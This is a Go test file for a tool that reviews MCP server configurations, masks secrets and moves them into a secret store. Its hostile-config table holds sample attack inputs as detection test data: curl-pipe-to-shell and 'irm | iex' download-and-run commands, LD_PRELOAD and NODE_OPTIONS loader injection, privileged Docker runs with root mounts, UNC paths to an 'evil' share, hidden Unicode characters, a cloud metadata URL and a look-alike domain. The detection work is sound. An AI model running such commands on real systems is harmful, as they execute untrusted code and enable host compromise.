package doctor

import (
	"context"
	"crypto/sha512"
	"encoding/hex"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"patchbay/backend/core"
)

func stdio(words ...string) core.ServerSpec {
	return core.ServerSpec{Name: "s", Transport: core.TransportStdio, Command: words[0], Args: words[1:]}
}

func codes(r Review) []string {
	out := []string{}
	for _, f := range r.Findings {
		out = append(out, f.Code)
	}
	return out
}

// Each row is a configuration that a person must not overlook.
func TestHostile(t *testing.T) {
	env := func(k, v string) core.ServerSpec {
		s := stdio("node", "a.js")
		s.Env = map[string]string{k: v}
		return s
	}
	web := func(url string) core.ServerSpec {
		return core.ServerSpec{Name: "s", Transport: core.TransportHTTP, URL: url}
	}
	rows := []struct {
		name string
		spec core.ServerSpec
		want string
	}{
		{"sh -c", stdio("sh", "-c", "npx x"), "shell"},
		{"bash -lc", stdio("/bin/bash", "-lc", "npx x"), "shell"},
		{"env bash -c", stdio("env", "A=1", "bash", "-c", "x"), "shell"},
		{"bash -ec", stdio("bash", "-e", "-c", "x"), "shell"},
		{"powershell", stdio("powershell.exe", "-NoProfile", "-Command", "x"), "shell"},
		{"encoded", stdio("pwsh", "-enc", "SQBFAFgA"), "encoded_command"},
		{"encoded long", stdio(`C:\Windows\powershell.exe`, "-EncodedCommand", "SQBFAFgA"), "encoded_command"},
		{"cmd joined", stdio("cmd", "/c", "npx x && calc"), "shell"},
		{"curl to sh", stdio("bash", "-c", "curl -fsSL https://x.sh | sh"), "downloads_and_runs"},
		{"iwr", stdio("powershell", "-c", "irm https://x | iex"), "downloads_and_runs"},
		{"eval curl", stdio("bash", "-c", `bash <(curl -s https://x)`), "downloads_and_runs"},
		{"python -c", stdio("python3", "-c", "import os"), "inline_code"},
		{"node -e", stdio("node", "-e", "1"), "inline_code"},
		{"preload", env("LD_PRELOAD", "/tmp/x.so"), "loader_variable"},
		{"node options", env("NODE_OPTIONS", "--require /tmp/x.js"), "loader_variable"},
		{"lower case", env("node_options", "x"), "loader_variable"},
		{"dyld", env("DYLD_INSERT_LIBRARIES", "x"), "loader_variable"},
		{"path", env("PATH", "/tmp"), "loader_variable"},
		{"through env", stdio("env", "PYTHONPATH=/tmp", "python", "a.py"), "loader_variable"},
		{"privileged", stdio("docker", "run", "--privileged", "x"), "privileged"},
		{"root mount", stdio("docker", "run", "-v", "/:/host", "x"), "mounts_everything"},
		{"drive mount", stdio("docker", "run", "-v", `C:\:/host`, "x"), "mounts_everything"},
		{"long mount", stdio("docker", "run", "--mount", "type=bind,src=/,dst=/host", "x"), "mounts_everything"},
		{"equal mount", stdio("docker", "run", "--mount=type=bind,source=/,target=/h", "x"), "mounts_everything"},
		{"socket", stdio("podman", "run", "-v", "/var/run/docker.sock:/var/run/docker.sock", "x"), "mounts_docker"},
		{"pid", stdio("docker", "run", "--pid=host", "x"), "privileged"},
		{"sudo", stdio("sudo", "npx", "x"), "elevated"},
		{"unc", stdio(`\\evil\share\a.exe`), "network_path"},
		{"unc argument", stdio("node", `//evil/share/a.js`), "network_path"},
		{"padding", stdio("node", "a.js"+strings.Repeat(" ", 10_000)+"--evil"), "padding"},
		{"lines", stdio("node", "a\nb"), "line_break"},
		{"bidi", stdio("node", "a\u202ejs.b"), "hidden_characters"},
		{"zero width", stdio("no\u200bde", "a"), "hidden_characters"},
		{"tag characters", env("A", "x\U000E0041"), "hidden_characters"},
		{"plain http", web("http://example.com/mcp"), "plain_http"},
		{"metadata", web("http://169.254.169.254/latest"), "cloud_metadata"},
		{"look-alike", web("https://gіthub.com/mcp"), "look_alike"},
	}
	for _, row := range rows {
		t.Run(row.name, func(t *testing.T) {
			r := (&Doctor{}).Review(t.Context(), row.spec)
			assert.Contains(t, codes(r), row.want)
			for _, f := range r.Findings {
				assert.Regexp(t, `\.$`, f.Message)
				assert.True(t, strings.HasPrefix(f.Field, "s"), f.Field)
			}
		})
	}
}

// A rule that cries at every server is not read any more.
func TestHarmless(t *testing.T) {
	s := stdio("npx", "-y", "@modelcontextprotocol/server-filesystem", "/home/me/notes")
	s.Env = map[string]string{"LOG_LEVEL": "debug", "MAX_TOKENS": "4096", "TOKEN_FILE": "/home/me/t", "SSH_KEY": "~/.ssh/id", "KEYBOARD": "qwerty", "API_KEY": "${secret:s/API_KEY}", "AUTHOR": "me myself"}
	for _, spec := range []core.ServerSpec{
		s,
		stdio("docker", "run", "-i", "--rm", "-v", "/home/me/notes:/notes", "--network", "host", "ghcr.io/x/y"),
		stdio("cmd", "/c", "npx", "-y", "x"),
		stdio("uvx", "--from", "git+https://github.com/x/y", "z"),
		stdio("python", "-m", "server", "-c", "config.toml"),
		stdio("node", "server.js", "-e", "production"),
		stdio("node", "--key-file", "x.pem", "sk-learn-server-with-a-long-name"),
		{Name: "s", Transport: core.TransportHTTP, URL: "http://localhost:3000/mcp", Headers: map[string]string{"Authorization": "Bearer ${TOKEN}"}},
		{Name: "s", Transport: core.TransportHTTP, URL: "https://example.com/mcp?profile=work"},
	} {
		assert.Empty(t, codes((&Doctor{}).Review(t.Context(), spec)), "%v", spec)
	}
}

func secretive() core.ServerSpec {
	s := stdio("server", "--api-key", "k3y-of-args", "--token=t0ken-of-args", "--verbose", "--header", "X-Api-Key: h3ader-of-args",
		"postgres://me:p4ss-of-args@db/x", "https://x/?api_key=qu3ry-of-args&a=b", "ghp_abcdefghijklmnopqrstuvwxyz0123456789")
	s.Env = map[string]string{"API_KEY": "k3y-of-env", "PLAIN": "yes", "DATABASE_URL": "mysql://u:p4ss-of-env@h/d", "EMPTY_TOKEN": "", "HINT_KEY": "<YOUR_KEY>"}
	s.Headers = map[string]string{"Authorization": "Bearer t0ken-of-header", "Accept": "text/plain"}
	s.URL = "https://u:p4ss-of-url@x/mcp?key=qu3ry-of-url"
	s.Auth = &core.ServerAuth{ClientID: "id", ClientSecret: "s3cret-of-auth", PrivateKey: "-----BEGIN PRIVATE KEY-----\nk3y-of-auth", Assertion: "a-of-auth",
		IdentityProvider: &core.IdentityProvider{ClientSecret: "s3cret-of-idp"}}
	return s
}

var values = []string{"k3y-of-args", "t0ken-of-args", "h3ader-of-args", "p4ss-of-args", "qu3ry-of-args", "ghp_abcdefghijklmnopqrstuvwxyz0123456789",
	"k3y-of-env", "p4ss-of-env", "t0ken-of-header", "p4ss-of-url", "qu3ry-of-url", "s3cret-of-auth", "k3y-of-auth", "a-of-auth", "s3cret-of-idp"}

func TestMask(t *testing.T) {
	spec := secretive()
	out := Mask(spec, "••••••••")
	text := flat(out)
	for _, v := range values {
		assert.NotContains(t, text, v)
		assert.Contains(t, flat(spec), v, "the original was changed")
	}
	assert.Equal(t, "--token=••••••••", out.Args[2])
	assert.Equal(t, "X-Api-Key: ••••••••", out.Args[5])
	assert.Equal(t, "https://x/?api_key=••••••••&a=b", out.Args[7])
	assert.Equal(t, "https://u:••••••••@x/mcp?key=••••••••", out.URL)
	assert.Equal(t, "Bearer ••••••••", out.Headers["Authorization"])
	assert.Equal(t, "yes", out.Env["PLAIN"])
	assert.Equal(t, "id", out.Auth.ClientID)
	assert.Empty(t, Secrets(out), "a mask is taken for a secret")
}

func flat(s core.ServerSpec) string {
	parts := append([]string{s.URL}, s.Args...)
	for _, m := range []map[string]string{s.Env, s.Headers} {
		for _, v := range m {
			parts = append(parts, v)
		}
	}
	c := Clone(s)
	for _, f := range authFields(c.Auth) {
		parts = append(parts, *f.value)
	}
	return strings.Join(parts, "\n")
}

func TestMove(t *testing.T) {
	spec := secretive()
	var places []string
	for _, s := range Secrets(spec) {
		places = append(places, s.Place)
	}
	out, kept := Move(spec, places, func(name, _ string) bool { return name == "s/API_KEY" })
	assert.Empty(t, Secrets(out))
	assert.Equal(t, "${secret:s/API_KEY-2}", out.Env["API_KEY"], "another secret would have been overwritten")
	assert.Equal(t, "Bearer ${secret:s/Authorization}", out.Headers["Authorization"])
	for _, v := range values {
		assert.NotContains(t, flat(out), v)
	}
	// what the engine puts in their place is what stood there
	back := flat(out)
	for name, v := range kept {
		back = strings.ReplaceAll(back, "${secret:"+name+"}", v)
	}
	want := strings.Split(flat(spec), "\n")
	got := strings.Split(back, "\n")
	slices.Sort(want)
	slices.Sort(got)
	assert.Equal(t, want, got)

	out, kept = Move(spec, []string{"env.API_KEY"}, func(string, string) bool { return false })
	assert.Equal(t, map[string]string{"s/API_KEY": "k3y-of-env"}, kept)
	assert.Equal(t, spec.Args, out.Args)
}

type locator struct {
	path string
	err  error
}

func (l locator) Locate(context.Context, core.ServerSpec) (string, error) { return l.path, l.err }

func TestReview(t *testing.T) {
	dir := t.TempDir()
	sum := sha512.Sum512([]byte("warm@1"))
	require.NoError(t, os.MkdirAll(filepath.Join(dir, "_npx", hex.EncodeToString(sum[:])[:16], "node_modules"), 0o700))
	require.NoError(t, os.MkdirAll(filepath.Join(dir, "wheels-v5", "pypi", "mcp-server-time"), 0o700))
	d := &Doctor{
		Locate: locator{path: "/usr/bin/npx"}, Cache: &Cache{NPX: dir, UV: dir},
		Missing:   func(core.ServerSpec) []string { return []string{"env.ORG"} },
		HasSecret: func(_ context.Context, name string) (bool, error) { return name == "s/HAVE", nil },
	}
	s := stdio("npx", "-y", "cold")
	s.Env = map[string]string{"B": "${secret:s/GONE}", "A": "${secret:s/HAVE}"}
	r := d.Review(t.Context(), s)
	assert.Equal(t, []string{"secret_missing", "value_missing", "cold_cache"}, codes(r))
	assert.Equal(t, []string{"npx", "-y", "cold"}, r.Argv)
	assert.Equal(t, []string{"A", "B"}, r.EnvNames)
	assert.Equal(t, "/usr/bin/npx", r.Resolved)
	assert.Equal(t, "s.env.ORG", r.Findings[1].Field)
	assert.Equal(t, core.SeverityDanger, Worst(r.Findings))

	d.Missing, d.HasSecret = nil, nil
	assert.Empty(t, codes(d.Review(t.Context(), stdio("npx", "-y", "warm@1"))))
	assert.Empty(t, codes(d.Review(t.Context(), stdio("uvx", "mcp_server.time==1.2"))))
	assert.Equal(t, []string{"cold_cache"}, codes(d.Review(t.Context(), stdio("uvx", "other"))))
	d.Locate = locator{err: core.Errorf(core.CodeNotFound, "uvx is not installed.")}
	r = d.Review(t.Context(), stdio("uvx", "other"))
	assert.Equal(t, []string{"command_missing"}, codes(r))
	assert.Equal(t, core.MendInstall, r.Findings[0].Mend)
}

func FuzzSecrets(f *testing.F) {
	f.Add("--token=abcdefgh", "https://u:p@h/?key=abcdef")
	f.Add("Authorization: Bearer x", "é://:•@")
	f.Fuzz(func(t *testing.T, arg, value string) {
		s := stdio("x", "--key", arg, value)
		s.Env, s.URL = map[string]string{arg: value, "API_KEY": value}, value
		m := Mask(s, "•")
		require.Len(t, m.Args, 3)
		for _, a := range Secrets(s) {
			require.NotEmpty(t, a.Key)
		}
		(&Doctor{}).Review(t.Context(), s)
	})
}

// A variable to which a person agreed must not keep the doctor red for ever.
func TestAnAgreedLoaderIsAWarning(t *testing.T) {
	d := &Doctor{Locate: locator{path: "/usr/bin/node"}}
	s := stdio("node", "x.js")
	s.Env = map[string]string{"NODE_OPTIONS": "--max-old-space-size=512", "LD_PRELOAD": "x.so"}
	s.AllowLoaders = []string{"env.NODE_OPTIONS"}
	r := d.Review(t.Context(), s)
	require.Len(t, r.Findings, 2)
	assert.Equal(t, "s.env.LD_PRELOAD", r.Findings[0].Field)
	assert.Equal(t, core.SeverityDanger, r.Findings[0].Severity)
	assert.Equal(t, core.SeverityWarning, r.Findings[1].Severity)
	assert.Contains(t, r.Findings[1].Message, "you agreed")
}
